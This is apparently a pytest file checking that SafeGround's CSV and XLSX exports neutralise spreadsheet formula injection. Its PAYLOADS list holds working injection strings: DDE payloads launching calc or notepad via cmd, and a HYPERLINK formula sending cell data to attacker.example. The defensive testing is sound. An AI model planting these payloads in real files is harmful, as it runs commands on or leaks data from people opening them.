"""Formula injection (issue 16, point 4): no CSV or XLSX cell SafeGround writes runs as a spreadsheet formula.

Payloads are stored in real records (an organisation's acronym and name, hazard
area names, a field note), then every export is run through the real CLI and
every cell of every file is read back: a text cell starting with ``= + - @``,
a tab or a carriage return must carry the leading quote. The stored values are
unchanged, and numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest

from tests.conftest import invoke_cli

PAYLOADS = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _dangerous(cell: str) -> bool:
    return cell.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell)


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _check_csv(path: Path) -> list[str]:
    """Every cell of a written CSV: none would run; returns the cells for further checks."""
    cells = _cells(path)
    bad = [c for c in cells if _dangerous(c)]
    assert not bad, f"{path.name}: cells that a spreadsheet would run: {bad[:5]}"
    return cells


@pytest.fixture(autouse=True)
def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAFEGROUND_STATE_DIR", str(tmp_path / "state"))


@pytest.fixture(scope="module")
def hostile_store(small_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small district whose organisations and hazard areas carry formula payloads, stored as typed."""
    from safeground.model import HazardArea, Organisation
    from safeground.storage import open_store

    path = tmp_path_factory.mktemp("hostile") / "s.gpkg"
    shutil.copy(small_store, path)
    with open_store(str(path)) as s:
        for i, org in enumerate(s.find(Organisation)):
            p = PAYLOADS[i % len(PAYLOADS)]
            s.update(org.model_copy(update={"acronym": p, "name": p}), expected_version=org.version)
        for i, haz in enumerate(list(s.find(HazardArea))[: len(PAYLOADS)]):
            s.update(
                haz.model_copy(update={"name": PAYLOADS[i], "change_reason": PAYLOADS[-1 - i]}),
                expected_version=haz.version,
            )
    return path


@pytest.fixture
def store(hostile_store: Path, tmp_path: Path) -> Path:
    p = tmp_path / "s.gpkg"
    shutil.copy(hostile_store, p)
    return p


def test_layer_exports_neutralise_every_payload_and_keep_the_stored_values(store: Path, tmp_path: Path):
    from safeground.model import HazardArea, Organisation
    from safeground.storage import open_store

    cells = {}
    for layer in ("hazard_areas", "organisations"):
        out = tmp_path / f"{layer}.csv"
        res = invoke_cli("export", "layer", layer, "-f", "csv", "--out", str(out), "--store", str(store))
        assert res.returncode == 0, res.stderr
        cells[layer] = _check_csv(out)
    for p in PAYLOADS:  # every hazard payload, and the organisations' (one payload each, in turn)
        assert "'" + p in cells["hazard_areas"], f"payload {p!r} not written (neutralised) at all"
    assert "'" + PAYLOADS[0] in cells["organisations"]
    with open_store(str(store), readonly=True) as s:  # the store keeps what was typed
        assert {o.acronym for o in s.find(Organisation)} <= set(PAYLOADS)
        assert set(PAYLOADS) <= {h.name for h in s.find(HazardArea)}


def test_hdx_files_neutralise_an_organisations_acronym(store: Path, tmp_path: Path):
    out = tmp_path / "hdx"
    res = invoke_cli("export", "hdx", "--store", str(store), "--out", str(out), "--audience", "restricted")
    assert res.returncode == 0, res.stderr
    files = sorted(out.glob("*.csv"))
    assert files
    for f in files:
        _check_csv(f)
    cells = _cells(out / "land_release_by_month.csv")
    assert any(c in {"'" + p for p in PAYLOADS} for c in cells), "the acronyms did not reach the land release file"


def test_the_problems_report_and_the_changes_list_neutralise_the_values_they_quote(store: Path, tmp_path: Path):
    bad = tmp_path / "eo.csv"
    rows = ["date_of_information,status,eo_type,how_found,lon,lat"]
    rows += [f'2021-04-02,found,"{p.replace(chr(34), chr(34) * 2)}",manual_clearance,47.1,39.6' for p in PAYLOADS]
    bad.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = tmp_path / "problems.csv"
    res = invoke_cli("import", "eo_items", str(bad), "--store", str(store), "--report", str(report))
    assert res.returncode == 2
    cells = _check_csv(report)
    assert "'" + PAYLOADS[0] in cells  # the wrong value is quoted for the clerk, neutralised


def test_tables_to_the_screen_and_to_files_are_neutralised(store: Path, tmp_path: Path):
    out = tmp_path / "priorities.csv"
    res = invoke_cli("plan", "priorities", "--store", str(store), "--format", "csv", "--out", str(out))
    assert res.returncode == 0, res.stderr
    _check_csv(out)
    res = invoke_cli("plan", "priorities", "--store", str(store), "--format", "csv")
    assert res.returncode == 0
    assert not [c for row in csv.reader(io.StringIO(res.stdout)) for c in row if _dangerous(c)]


def test_the_xlsx_template_from_a_hostile_record_holds_no_formula(tmp_path: Path):
    import json

    from openpyxl import load_workbook

    src = json.loads((Path(__file__).parent / "data" / "records" / "handover_97.json").read_text(encoding="utf-8"))
    src["source_reference"] = PAYLOADS[1]
    example = tmp_path / "record.json"
    example.write_text(json.dumps(src), encoding="utf-8")
    out = tmp_path / "template.xlsx"
    res = invoke_cli("maps", "template", str(out), "--example", str(example))
    assert res.returncode == 0, res.stderr
    wb = load_workbook(out)
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + PAYLOADS[1] in values


def test_the_forms_workbooks_hold_no_formula(tmp_path: Path):
    from openpyxl import load_workbook

    res = invoke_cli("forms", "export", str(tmp_path / "forms"))
    assert res.returncode == 0, res.stderr
    books = sorted((tmp_path / "forms").glob("*.xlsx"))
    from safeground.intake.forms import FORMS

    assert len(books) == len(FORMS) == 6  # hazard, accident, EO find, assistance follow-up, EORE session, QM
    for b in books:
        wb = load_workbook(b)
        assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    import pandas as pd

    from safeground.tabular import frame_to_csv, safe_cell

    frame = pd.DataFrame({"depth": [-12.5, 3.0], "note": ["-12.5", "-1+1"], "who": ["@team", "Halo"]})
    text = str(frame_to_csv(frame, index=False))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["-12.5", "-12.5", "'@team"]  # a negative number, a number typed as text, a formula
    assert rows[2] == ["3.0", "'-1+1", "Halo"]
    assert safe_cell(-7) == -7 and safe_cell("=A1") == "'=A1" and safe_cell("Chaykend") == "Chaykend"
    assert frame["note"].tolist() == ["-12.5", "-1+1"]  # the frame itself is not changed


#: direct CSV/XLSX writing outside safeground/tabular.py, allowed only where the file is not an output
ALLOWED = {
    ("intake/digitised.py", "csv.writer("): "digitised features staged as CSV for the importer: input, not output",
    ("intake/sources.py", "csv.writer("): "csv_text(): CSV text handed back to the importer (tests, round trips)",
    ("reports/document.py", ".to_csv("): "bytes hashed for the provenance digest, never written to a file",
    ("minemaps/traverse_xlsx.py", "Workbook("): "template cells from a record pass through tabular.xlsx_value",
    ("intake/forms/__init__.py", "Workbook("): "form cells pass through tabular.xlsx_value",
}
_WRITES = ("csv.writer(", "csv.DictWriter(", ".to_csv(", ".to_excel(", "Workbook(", "xlsxwriter")


def test_no_csv_or_xlsx_is_written_outside_the_one_writer():
    root = Path(__file__).parents[1] / "src" / "safeground"
    found = []
    for py in sorted(root.rglob("*.py")):
        rel = py.relative_to(root).as_posix()
        if rel == "tabular.py":
            continue
        text = py.read_text(encoding="utf-8")
        for pattern in _WRITES:
            if pattern in text and (rel, pattern) not in ALLOWED:
                found.append(f"{rel}: {pattern}")
            if (rel, pattern) in ALLOWED and pattern == "Workbook(":
                assert "xlsx_value" in text, f"{rel} writes workbook cells without tabular.xlsx_value"
    assert not found, "write CSV/XLSX through safeground.tabular (writer, csv_output, frame_to_csv): " + str(found)
